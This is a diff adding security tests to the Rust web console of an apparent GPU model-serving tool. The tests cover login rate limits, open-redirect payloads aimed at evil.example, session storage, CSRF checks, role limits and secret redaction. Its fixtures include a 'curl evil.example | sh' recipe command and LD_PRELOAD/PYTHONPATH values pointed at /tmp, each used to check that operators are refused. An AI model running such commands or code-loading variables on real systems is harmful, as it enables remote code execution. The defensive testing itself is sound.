@@ -246,7 +246,7 @@ async fn a_browser_change_without_the_csrf_token_gets_403() {
         .unwrap()
         .to_owned();
     assert!(cookie.contains("HttpOnly"), "{cookie}");
-    assert!(cookie.contains("SameSite=Strict"), "{cookie}");
+    assert!(cookie.contains("SameSite=Lax"), "{cookie}");
 
     let page = browser.get("/nodes").await;
     assert_eq!(page.status, StatusCode::OK);
@@ -460,5 +460,349 @@ async fn a_body_past_the_limit_is_refused_with_413() {
     assert_eq!(
         answer["error"],
         "the request body is larger than the 256 KiB a request may send"
+    );
+}
+
+#[tokio::test]
+async fn a_burst_of_wrong_passwords_sent_at_once_gets_no_more_tries_than_the_limit() {
+    let app = TestApp::new(MAJIN).await;
+    let mut browser = Browser::new(&app);
+    let csrf = browser.get("/login").await.csrf();
+    let cookie = browser.cookie.clone().unwrap();
+    let tries = (0..40).map(|_| {
+        let request = Request::post("/login")
+            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+            .header(header::COOKIE, &cookie)
+            .body(Body::from(format!(
+                "name={ADMIN}&password=guess&csrf={csrf}"
+            )))
+            .unwrap();
+        app.send(request)
+    });
+    let answers = futures::future::join_all(tries).await;
+    let checked = answers
+        .iter()
+        .filter(|a| {
+            a.headers()
+                .get(header::LOCATION)
+                .is_some_and(|l| l.to_str().unwrap().starts_with("/login?error=wrong"))
+        })
+        .count();
+    assert_eq!(checked, 5, "the account's limit of tries, and not one more");
+}
+
+#[test]
+fn after_signing_in_only_a_plain_path_of_this_console_is_followed() {
+    for kept in ["/", "/nodes", "/machines/majin?tab=gpus", "/a%2F%2Fb"] {
+        assert_eq!(super::safe_next(kept), kept);
+    }
+    for other_site in [
+        "/\t/evil.example",
+        "/\n/evil.example",
+        "/\r/evil.example",
+        "/ /evil.example",
+        "//evil.example",
+        "/\\evil.example",
+        "\\\\evil.example",
+        "https://evil.example",
+        "evil.example",
+        "/\u{a0}/evil.example",
+        "",
+    ] {
+        assert_eq!(super::safe_next(other_site), "/", "{other_site:?}");
+    }
+}
+
+#[tokio::test]
+async fn a_sign_in_with_a_next_that_a_browser_reads_as_another_site_goes_home() {
+    let app = TestApp::new(MAJIN).await;
+    let mut browser = Browser::new(&app);
+    let csrf = browser.get("/login").await.csrf();
+    let answer = browser
+        .post_form(
+            "/login",
+            &[
+                ("name", ADMIN),
+                ("password", ADMIN_PASSWORD),
+                ("csrf", &csrf),
+                ("next", "/\t/evil.example"),
+            ],
+        )
+        .await;
+    assert_eq!(answer.location(), "/");
+}
+
+#[tokio::test]
+async fn setup_once_an_admin_exists_refuses_before_it_looks_at_the_password() {
+    let app = TestApp::new(MAJIN).await;
+    // A password no check would pass: refused as taken, so nothing was checked or hashed first.
+    let huge = "x".repeat(crate::accounts::MAX_PASSWORD_LEN * 10);
+    let refused = crate::accounts::create_first_admin(&app.pool, "mallory", &huge).await;
+    assert!(
+        matches!(refused, Err(crate::error::ApiError::Conflict(_))),
+        "{refused:?}"
+    );
+    let mut browser = Browser::new(&app);
+    let csrf = browser.get("/setup").await.csrf();
+    let answer = browser
+        .post_form(
+            "/setup",
+            &[
+                ("name", "mallory"),
+                ("password", "twelve chars!"),
+                ("again", "twelve chars!"),
+                ("csrf", &csrf),
+            ],
+        )
+        .await;
+    assert_eq!(answer.location(), "/login");
+    assert_eq!(crate::accounts::count(&app.pool).await.unwrap(), 1);
+}
+
+#[tokio::test]
+async fn a_request_to_a_public_path_or_a_visit_sent_to_sign_in_stores_no_session() {
+    let app = TestApp::new(MAJIN).await;
+    for path in [
+        "/api/health",
+        "/api/openapi.json",
+        "/favicon.svg",
+        "/pkg/tessera.css",
+        "/nodes",
+    ] {
+        let answer = Browser::new(&app).get(path).await;
+        assert!(
+            !answer.headers.contains_key(header::SET_COOKIE),
+            "{path}: {:?}",
+            answer.headers
+        );
+    }
+    let sessions: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM sessions")
+        .fetch_one(&app.pool)
+        .await
+        .unwrap();
+    assert_eq!(sessions, 0);
+    // The sign-in page does need one, for its form's CSRF token.
+    let login = Browser::new(&app).get("/login").await;
+    assert!(login.headers.contains_key(header::SET_COOKIE));
+}
+
+#[tokio::test]
+async fn the_database_holds_a_digest_of_each_session_id_and_never_the_id() {
+    let app = TestApp::new(MAJIN).await;
+    let mut browser = Browser::new(&app);
+    browser.sign_in(ADMIN, ADMIN_PASSWORD).await;
+    let cookie = browser.cookie.clone().unwrap();
+    let id = cookie.split_once('=').unwrap().1.to_owned();
+    let stored: Vec<String> = sqlx::query_scalar("SELECT id FROM sessions")
+        .fetch_all(&app.pool)
+        .await
+        .unwrap();
+    assert!(!stored.is_empty());
+    assert!(!stored.iter().any(|s| s.contains(&id)), "{stored:?}");
+    // And the cookie still signs in.
+    assert_eq!(browser.get("/nodes").await.status, StatusCode::OK);
+}
+
+#[test]
+fn csrf_tokens_match_only_whole_and_exact() {
+    assert!(super::same_token("a1b2c3", "a1b2c3"));
+    assert!(!super::same_token("a1b2c3", "a1b2c4"));
+    assert!(!super::same_token("a1b2c3", "a1b2c"));
+    assert!(!super::same_token("a1b2c3", ""));
+}
+
+#[tokio::test]
+async fn an_operator_may_not_add_a_catalog_recipe_or_give_a_worker_a_command() {
+    let app = TestApp::new(MAJIN).await;
+    let operator = account(&app, "otto", "operator").await;
+    let recipe = json!({"name": "mine", "engine": "command", "default_share_percent": 10,
+        "model_path": "m", "command": "sh -c 'curl evil.example | sh' {port}"});
+    let (status, body) = app
+        .call_with(
+            Some(&operator),
+            Method::POST,
+            "/api/models",
+            Some(&recipe.to_string()),
+        )
+        .await;
+    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
+    let with_command = json!({"name": "w", "command": "sh -c id",
+        "requested_resources": {"gpu_requests": {"count": 1, "shared": true, "memory_gb": 1}}});
+    let (status, body) = app
+        .call_with(
+            Some(&operator),
+            Method::POST,
+            "/api/workers",
+            Some(&with_command.to_string()),
+        )
+        .await;
+    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
+    assert!(
+        body["error"].as_str().unwrap().contains("admin role"),
+        "{body}"
+    );
+    let (_, workers) = app.call(Method::GET, "/api/workers", None).await;
+    assert_eq!(workers, json!([]), "nothing was stored");
+    let (status, body) = app
+        .call_with(Some(&operator), Method::POST, "/api/workers", Some(WORKER))
+        .await;
+    assert_eq!(status, StatusCode::CREATED, "{body}");
+    let (status, body) = app
+        .call(Method::POST, "/api/models", Some(&recipe.to_string()))
+        .await;
+    assert_eq!(status, StatusCode::CREATED, "an admin may: {body}");
+}
+
+#[tokio::test]
+async fn an_operator_may_not_set_a_variable_that_loads_code_and_an_admin_may() {
+    let app = crate::testing::majin_and_atlas_with_catalog().await;
+    let operator = account(&app, "otto", "operator").await;
+    for (name, value) in [
+        ("LD_PRELOAD", "/tmp/x.so"),
+        ("PYTHONPATH", "/tmp"),
+        ("PATH", "/tmp"),
+    ] {
+        let deploy = json!({"model": "vision", "gpus": ["atlas:0"], "env": {name: value}});
+        let (status, body) = app
+            .call_with(
+                Some(&operator),
+                Method::POST,
+                "/api/deployments",
+                Some(&deploy.to_string()),
+            )
+            .await;
+        assert_eq!(status, StatusCode::FORBIDDEN, "{name}: {body}");
+        assert!(body["error"].as_str().unwrap().contains(name), "{body}");
+    }
+    let (_, groups) = app.call(Method::GET, "/api/groups", None).await;
+    assert_eq!(groups, json!([]), "nothing was deployed");
+    let trusting = json!({"model": "vision", "gpus": ["atlas:0"], "args": ["--trust-remote-code"]});
+    let (status, body) = app
+        .call_with(
+            Some(&operator),
+            Method::POST,
+            "/api/deployments",
+            Some(&trusting.to_string()),
+        )
+        .await;
+    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
+    let deploy =
+        json!({"model": "vision", "gpus": ["atlas:0"], "env": {"PYTHONPATH": "/opt/extra"}});
+    let (status, body) = app
+        .call(Method::POST, "/api/deployments", Some(&deploy.to_string()))
+        .await;
+    assert_eq!(status, StatusCode::CREATED, "{body}");
+}
+
+#[tokio::test]
+async fn an_extra_argument_that_overrides_a_flag_tessera_sets_gets_422_naming_the_flag_and_its_field(
+) {
+    let app = crate::testing::majin_and_atlas_with_catalog().await;
+    for (model, args, flag, field) in [
+        (
+            "glm-5.3",
+            json!(["--gpu-memory-utilization", "0.95"]),
+            "--gpu-memory-utilization",
+            "\"share\"",
+        ),
+        ("glm-5.3", json!(["--host=0.0.0.0"]), "--host", "127.0.0.1"),
+        (
+            "glm-5.3",
+            json!(["--tensor-parallel-size", "8"]),
+            "--tensor-parallel-size",
+            "\"gpus\"",
+        ),
+        (
+            "vision",
+            json!(["--mem-fraction-static", "0.9"]),
+            "--mem-fraction-static",
+            "\"share\"",
+        ),
+        ("speech", json!(["--port", "80"]), "--port", "port"),
+        ("speech", json!(["-ngl", "99"]), "-ngl", "\"share\""),
+        ("embedder", json!(["--port", "80"]), "--port", "port"),
+    ] {
+        let deploy = json!({"model": model, "gpus": ["atlas:0"], "args": args});
+        let (status, body) = app
+            .call(Method::POST, "/api/deployments", Some(&deploy.to_string()))
+            .await;
+        assert_eq!(
+            status,
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "{model} {args}: {body}"
+        );
+        let error = body["error"].as_str().unwrap();
+        assert!(error.contains(flag) && error.contains(field), "{error}");
+    }
+    let fine =
+        json!({"model": "glm-5.3", "gpus": ["atlas:0"], "args": ["--max-model-len", "8192"]});
+    let (status, body) = app
+        .call(Method::POST, "/api/deployments", Some(&fine.to_string()))
+        .await;
+    assert_eq!(status, StatusCode::CREATED, "{body}");
+    let (status, body) = app
+        .call(
+            Method::PUT,
+            "/api/deployments/glm-5.3/serving",
+            Some(&json!({"revision": 1, "args": ["--gpu_memory_utilization=0.99"]}).to_string()),
+        )
+        .await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
+}
+
+#[tokio::test]
+async fn secrets_are_shown_to_admins_only_and_never_written_to_the_audit_log() {
+    let app = crate::testing::majin_and_atlas_with_catalog().await;
+    let viewer = account(&app, "vera", "viewer").await;
+    let operator = account(&app, "otto", "operator").await;
+    let deploy = json!({"model": "speech", "gpus": ["atlas:1"], "shared": false,
+        "env": {"HF_TOKEN": "hf_deploysecret", "HF_HOME": "/models"}});
+    let (status, body) = app
+        .call(Method::POST, "/api/deployments", Some(&deploy.to_string()))
+        .await;
+    assert_eq!(status, StatusCode::CREATED, "{body}");
+    for uri in [
+        "/api/workers",
+        "/api/workers/speech",
+        "/api/machines/atlas/workers",
+    ] {
+        let (_, seen) = app.call_with(Some(&viewer), Method::GET, uri, None).await;
+        let text = seen.to_string();
+        assert!(!text.contains("hf_deploysecret"), "{uri}: {text}");
+        assert!(
+            text.contains("(secret)") && text.contains("/models"),
+            "{uri}: {text}"
+        );
+        let (_, seen) = app.call(Method::GET, uri, None).await;
+        assert!(
+            seen.to_string().contains("hf_deploysecret"),
+            "an admin sees it: {uri}"
+        );
+    }
+    // An operator's form sends the secret back as shown: the stored value stays.
+    let (status, body) = app
+        .call_with(
+            Some(&operator),
+            Method::PUT,
+            "/api/deployments/speech/serving",
+            Some(
+                &json!({"revision": 1, "env": {"HF_TOKEN": "(secret)", "HF_HOME": "/data"}})
+                    .to_string(),
+            ),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let (_, worker) = app.call(Method::GET, "/api/workers/speech", None).await;
+    assert_eq!(worker["env"]["HF_TOKEN"], "hf_deploysecret");
+    assert_eq!(worker["env"]["HF_HOME"], "/data");
+    let log: String = sqlx::query_scalar(
+        "SELECT group_concat(coalesce(before, '') || coalesce(after, '')) FROM audit",
+    )
+    .fetch_one(&app.pool)
+    .await
+    .unwrap();
+    assert!(
+        log.contains("HF_HOME") && !log.contains("hf_deploysecret"),
+        "{log}"
     );
 }
